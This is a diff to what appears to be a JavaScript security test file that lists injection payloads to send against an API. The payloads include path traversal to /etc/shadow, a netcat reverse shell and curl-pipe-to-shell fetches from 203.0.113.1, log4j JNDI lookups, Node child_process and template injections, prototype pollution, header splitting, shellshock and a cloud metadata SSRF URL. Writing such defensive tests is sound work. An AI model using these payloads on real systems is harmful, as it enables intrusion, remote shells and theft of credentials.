@@ -19,17 +19,20 @@ const payloads = {
   'path: windows': `..\\..\\windows\\win.ini`,
   'path: absolute': `/etc/shadow`,
   'path: proc': `/proc/self/environ`,
-  'path: wrapper': `php://filter/convert.base64-encode/resource=index`,
+  'path: file address': `file:///etc/passwd`,
   'shell: cat': `; cat /etc/passwd`,
   'shell: pipe': `| nc -e /bin/sh 203.0.113.1 4444`,
   'shell: substitution': '$(curl http://203.0.113.1/x.sh | sh)',
   'shell: ticks': '`wget http://203.0.113.1/x`',
   'shell: and': `&& ping -c 10 203.0.113.1`,
-  'template: jinja': `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`,
+  'template: embedded': `<%= process.env %>`,
   'template: log4j': '${jndi:ldap://203.0.113.1/a}',
   'node: require': `require('child_process').exec('id')`,
   'node: prototype': `__proto__[admin]=1;constructor.prototype.admin=1`,
-  'code: php': `<?php system($_GET['c']); ?>`,
+  'node: function': `new Function('return process')`,
+  'node: main module': `process.mainModule.require('child_process')`,
+  'query operator': `{"$gt":""}`,
+  'header splitting': `\r\nSet-Cookie: a=b`,
   'server-side request': `http://169.254.169.254/latest/meta-data/`,
 }
 
@@ -58,7 +61,6 @@ const others = [
   ['a form', { path: '/api/v1/orgs', method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1' }],
   ['XML', { path: '/api/v1/orgs', method: 'POST', headers: { 'content-type': 'text/xml' }, body: '<a/>' }],
   ['shellshock', { path: '/api/v1', headers: { 'user-agent': '() { :; }; /bin/bash -c id' } }],
-  ['log4j in a header', { path: '/api/v1', headers: { referer: '${jndi:ldap://203.0.113.1/a}' } }],
 ]
 
 /** As `{ title, path, method, headers, body }`. */
